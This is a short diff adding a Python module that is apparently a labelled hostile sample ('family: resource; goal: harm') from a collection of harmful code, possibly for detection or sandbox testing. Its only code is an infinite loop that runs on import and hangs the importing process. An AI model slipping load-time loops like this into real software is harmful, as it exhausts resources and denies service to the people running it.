@@ -1,0 +1,4 @@
+# family: resource; goal: harm
+# Endless already while the module is loaded.
+while True:
+    pass
